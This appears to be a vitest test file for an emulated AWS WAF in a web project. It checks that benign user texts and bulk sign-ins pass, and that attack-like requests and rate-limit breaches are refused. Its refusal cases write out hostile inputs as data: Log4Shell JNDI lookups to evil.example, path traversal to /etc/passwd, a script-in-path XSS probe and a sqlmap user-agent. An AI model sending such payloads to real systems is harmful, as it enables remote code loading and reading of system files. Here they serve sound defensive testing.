import { globSync, readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { type Inspected, readFirewall } from "../../bin/local/cloud/firewall.ts";
import { readTemplate } from "../../bin/local/cloud/template.ts";
import { synthesizedApp } from "../../bin/local/prepare.ts";
import * as assessments from "../../bin/seed/texts.ts";
import { world } from "../support/world.ts";

const places = { queuesUrl: "http://queues", filesOrigin: "http://files", portalOrigin: "http://portal" };
const { firewall } = readTemplate(await synthesizedApp(), places);
const judge = (request: Partial<Inspected>) =>
  firewall.judge({ method: "GET", url: "/", headers: { "user-agent": "Mozilla/5.0" }, body: "", ...request });
const typed = (text: string) => judge({ method: "POST", url: "/api/user/profile", body: JSON.stringify({ text }) });
const searched = (text: string) => judge({ url: `/api/credential/open/list?${new URLSearchParams({ q: text })}` });

/** What honest people write on a platform about programs, networks and texts. */
const honest = [
  "Open http://192.168.1.1/ and change the router's password.",
  "Include the header with #include <../lib/list.h>, and move it to ..\\include afterwards.",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: people write such things
  "A template string such as `Hello ${name}` or a pattern such as {{ user.name }}",
  "<p>In the browser, <script>alert(1)</script> runs at once; escape it as &lt;script&gt;.</p>",
  "The metadata service at 169.254.169.254 answers inside the machine alone.",
  "What does /etc/passwd hold, and why can everybody read it?",
  "java.lang.Runtime.exec() and its dangers",
  "settings.ini",
  "x".repeat(9000),
];

/** Every text that the seed writes, however deep. */
function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsIn) : [];
}

describe("the firewall lets through", () => {
  test.each(honest)("what honest people write to the API: %s", (text) => {
    expect([typed(text).rule, searched(text).rule]).toEqual([undefined, undefined]);
  });
  test("every text of the seeded world", () => {
    const sources = globSync("bin/seed/**/*.ts").flatMap((file) => [
      ...readFileSync(file, "utf8").matchAll(/"((?:[^"\\]|\\.)*)"|`([^`]*)`/g),
    ]);
    const texts = [...textsIn(assessments), ...sources.map(([, quoted, template]) => quoted ?? template ?? "")];
    expect(texts.length).toBeGreaterThan(500);
    for (const text of texts) expect(typed(text).rule, text).toBeUndefined();
  });
  test("a picture in a form, and a page of the portal with an address in its path", () => {
    const picture = { image: `data:image/png;base64,${"iVBORw0KGgo".repeat(200_000)}` };
    const sent = judge({ method: "PUT", url: "/api/user", body: JSON.stringify(picture).slice(0, 16_384) });
    expect(sent.rule).toBeUndefined();
    expect(judge({ url: "/resetpassword/ada@northwind.test?t=abc" }).rule).toBeUndefined();
  });
  test("with a count of what it would have refused", () => {
    expect(typed(honest[0]!).labels).toContain("awswaf:managed:aws:core-rule-set:GenericRFI_Body");
    expect(searched(honest[2]!).labels).toContain("awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString");
  });
});

describe("the firewall refuses", () => {
  test.each<[string, Partial<Inspected>]>([
    // biome-ignore lint/suspicious/noTemplateCurlyInString: attackers write such things
    ["what is typed anywhere but to the API", { method: "POST", url: "/login", body: "${jndi:ldap://evil.example}" }],
    ["a long query anywhere but to the API", { url: `/login?q=${"x".repeat(3000)}` }],
    ["a path that climbs", { url: "/api/../../etc/passwd" }],
    ["a path that climbs in disguise", { url: "/api/%2e%2e/%2e%2e/etc/passwd" }],
    ["a script in a path", { url: "/api/<script>alert(1)</script>" }],
    ["paths of other products", { url: "/wp-admin/setup.php" }],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: likewise
    ["a lookup in a header", { headers: { "user-agent": "${jndi:ldap://evil.example/a}" } }],
    ["a scanner", { headers: { "user-agent": "sqlmap/1.8" } }],
    ["whoever does not say what they are", { headers: {} }],
    ["a method of file servers", { method: "PROPFIND" }],
  ])("%s", (_, request) => expect(judge(request).rule).toBeDefined());
});

describe("behind one address", () => {
  const address = "192.0.2.7";
  const agent = { "user-agent": "Mozilla/5.0" };
  const fresh = async () => readTemplate(await synthesizedApp(), places).firewall;
  /** A first visit as it was counted in Chromium: files of two pages, a sign-in, and nine calls of the first page. */
  const visit = (token: string): Partial<Inspected>[] => [
    ...Array.from({ length: 44 }, (_, at) => ({ url: `/assets/part-${at}.js` })),
    { method: "POST", url: "/api/user/login" },
    ...Array.from({ length: 9 }, () => ({ url: "/api/user", headers: { ...agent, authorization: `Bearer ${token}` } })),
  ];

  test("two hundred browsers sign in within five minutes, and work for as long again", async () => {
    const { judge } = await fresh();
    const refused: (string | undefined)[] = [];
    for (let browser = 0; browser < 200; browser += 1) {
      const calls = { url: "/api/user", headers: { ...agent, authorization: `Bearer ${browser}` } };
      for (const [at, each] of [...visit(String(browser)), ...Array.from({ length: 40 }, () => calls)].entries()) {
        const sent = { address, atMs: browser * 1500 + at * 10 };
        const { rule } = judge({ method: "GET", url: "/", headers: agent, body: "", sent, ...each });
        if (rule) refused.push(rule);
      }
    }
    expect(refused).toEqual([]);
  });

  test.each<[string, string, number, (at: number) => Partial<Inspected>]>([
    [
      "whoever changes the authorization with each call",
      "requests-per-address",
      20_000,
      (at) => ({ url: "/api/user", headers: { ...agent, authorization: `Bearer ${at}` } }),
    ],
    [
      "whoever asks with one token alone",
      "requests-per-token",
      2000,
      () => ({ url: "/api/user", headers: { ...agent, authorization: "Bearer one" } }),
    ],
    ["whoever tries passwords", "sign-ins-per-address", 1000, () => ({ method: "POST", url: "/api/user/login" })],
  ])("%s is refused all the same, and again let in five minutes later", async (_, rule, limit, request) => {
    const { judge } = await fresh();
    const ask = (at: number, atMs: number) =>
      judge({ method: "GET", url: "/", headers: agent, body: "", ...request(at), sent: { address, atMs } }).rule;
    for (let at = 0; at < limit; at += 1) expect(ask(at, at)).toBeUndefined();
    expect(ask(limit, limit)).toBe(rule);
    expect(ask(limit + 1, limit + 300_000)).toBeUndefined();
  });
});

test("a part of a firewall that is not known here stops the local cloud instead of being passed over", () => {
  const of = (Statement: object) => () =>
    readFirewall([
      {
        id: "Firewall",
        path: "edge/Firewall",
        type: "AWS::WAFv2::WebACL",
        metadata: {},
        properties: { Rules: [{ Name: "one", Priority: 0, Statement, Action: { Block: {} } }] },
      },
    ]);
  expect(of({ GeoMatchStatement: { CountryCodes: ["US"] } })).toThrow();
  expect(of({ ManagedRuleGroupStatement: { VendorName: "AWS", Name: "AWSManagedRulesLinuxRuleSet" } })).toThrow(
    "Linux",
  );
  const misspelt = { Name: "SizeRestrictions_Body", ActionToUse: { Count: {} } };
  const group = { VendorName: "AWS", Name: "AWSManagedRulesCommonRuleSet", RuleActionOverrides: [misspelt] };
  expect(of({ ManagedRuleGroupStatement: group })).toThrow("SizeRestrictions_Body");
});

test("at the running edge a refusal is CloudFront's page with a number to name, and never reaches the API", async () => {
  const { status, headers, text } = await world.anyone.send("GET", "/api/wp-admin");
  expect([status, headers["content-type"]]).toEqual([403, "text/html"]);
  expect(headers["x-amz-cf-id"]).toBeTruthy();
  expect(headers["apigw-requestid"]).toBeUndefined();
  expect(text).toContain("Request blocked");
});
